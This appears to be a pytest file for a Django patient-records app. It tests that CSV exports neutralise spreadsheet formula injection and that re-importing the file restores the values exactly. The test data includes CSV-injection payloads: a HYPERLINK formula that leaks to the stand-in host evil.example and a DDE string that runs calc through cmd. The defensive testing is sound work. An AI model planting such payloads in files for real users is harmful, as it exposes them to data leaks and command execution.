"""Exported files are safe to open in a spreadsheet: a value it would run as a formula is written with an
apostrophe in front (OWASP's advice on CSV injection), and importing the file gives the value back
unchanged."""

import csv

import pytest

from carebridge.core.actor import Actor
from carebridge.csvio.cells import FORMULA_TRIGGERS, from_spreadsheet_safe, spreadsheet_safe
from carebridge.csvio.services import dataset_export, dataset_import
from carebridge.csvio.tests.conftest import FILE_NAMES, GOOD
from carebridge.patients.models import Patient

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Click here")'
CALC = "+cmd|' /C calc'!A0"

# stored value -> what the exported cell holds
WRITTEN = {
    HYPERLINK: "'" + HYPERLINK,
    CALC: "'" + CALC,
    "@SUM(1)": "'@SUM(1)",
    "-2+3": "'-2+3",
    "\tTabbed": "'\tTabbed",
    "\rReturned": "'\rReturned",
    "+44 113 496 0000": "'+44 113 496 0000",
    # A value that really starts with an apostrophe before a trigger keeps it: one more goes on.
    "'=already quoted": "''=already quoted",
    "''-two": "'''-two",
    # Apostrophes that lead to no trigger are left alone, on the way out and on the way back.
    "'s-Hertogenbosch Lane": "'s-Hertogenbosch Lane",
    "O'Connor": "O'Connor",
    "'": "'",
    "''": "''",
    # A trigger anywhere but first is harmless.
    "Smith-Jones": "Smith-Jones",
    "a=b": "a=b",
    "": "",
}


@pytest.mark.parametrize(("stored", "written"), WRITTEN.items())
def test_formula_like_values_are_defused_and_read_back_unchanged(stored, written):
    assert spreadsheet_safe(stored) == written
    assert from_spreadsheet_safe(written) == stored


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_no_written_value_starts_with_a_formula_trigger(trigger):
    for value in (trigger, trigger + "1", "'" + trigger, "''" + trigger + "x"):
        assert not spreadsheet_safe(value).startswith(FORMULA_TRIGGERS)
        assert from_spreadsheet_safe(spreadsheet_safe(value)) == value


def test_a_hand_made_file_with_a_leading_apostrophe_is_read_as_the_spreadsheet_meant():
    # LibreOffice and Excel users type '+44... to keep the plus: the apostrophe is not part of the value.
    assert from_spreadsheet_safe("'+44 113 496 0000") == "+44 113 496 0000"
    assert from_spreadsheet_safe("'07700900301") == "'07700900301"  # not a trigger: left for the column


def _cells(path) -> list[list[str]]:
    # newline="": a carriage return inside a value stays one (read_text would make it a line feed).
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


HOSTILE = {
    "P101": {
        "first_name": HYPERLINK,
        "last_name": CALC,
        "address": "@SUM(1)",
        "emergency_contact_name": "-2+3",
        "phone_number": "+44 113 496 0000",
    },
    "P102": {
        "first_name": "\tTabbed",
        "last_name": "'=already quoted",
        "address": "'s-Hertogenbosch Lane",
        "emergency_contact_name": "\rReturned",
    },
}


@pytest.mark.django_db
def test_an_export_of_formula_like_values_is_defused_and_imports_back_unchanged(tmp_path):
    dataset_import(directory=GOOD, actor=Actor.command_line())
    for source_id, fields in HOSTILE.items():
        # Values as a careless integrator or an attacker could have left them (the pages trim input).
        Patient.objects.filter(source_id=source_id).update(**fields)

    dataset_export(directory=tmp_path, actor=Actor.command_line())

    rows = _cells(tmp_path / "patients.csv")
    header, body = rows[0], {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert header[0] == "patient_id"
    assert body["P101"]["first_name"] == "'" + HYPERLINK
    assert body["P101"]["last_name"] == "'" + CALC
    assert body["P101"]["address"] == "'@SUM(1)"
    assert body["P101"]["emergency_contact_name"] == "'-2+3"
    assert body["P101"]["phone_number"] == "'+44 113 496 0000"
    assert body["P102"]["first_name"] == "'\tTabbed"
    assert body["P102"]["last_name"] == "''=already quoted"
    assert body["P102"]["address"] == "'s-Hertogenbosch Lane"
    assert body["P102"]["emergency_contact_name"] == "'\rReturned"
    for name in FILE_NAMES:
        for row in _cells(tmp_path / name)[1:]:
            assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row), (name, row)

    # Read back into the same records: every value matches what is stored, so nothing changes.
    report = dataset_import(directory=tmp_path, actor=Actor.command_line())
    assert report.stored and not report.has_errors
    counts = report.files["patients.csv"]
    assert (counts.created, counts.updated) == (0, 0)
    for source_id, fields in HOSTILE.items():
        patient = Patient.objects.get(source_id=source_id)
        assert {name: getattr(patient, name) for name in fields} == fields


@pytest.mark.django_db
def test_importing_the_export_restores_formula_like_values_exactly(tmp_path):
    dataset_import(directory=GOOD, actor=Actor.command_line())
    Patient.objects.filter(source_id="P101").update(first_name=HYPERLINK, last_name="'=already quoted")
    dataset_export(directory=tmp_path / "out", actor=Actor.command_line())
    Patient.objects.filter(source_id="P101").update(first_name="Alice", last_name="Hughes")

    report = dataset_import(directory=tmp_path / "out", actor=Actor.command_line())

    assert report.files["patients.csv"].updated == 1
    alice = Patient.objects.get(source_id="P101")
    assert (alice.first_name, alice.last_name) == (HYPERLINK, "'=already quoted")
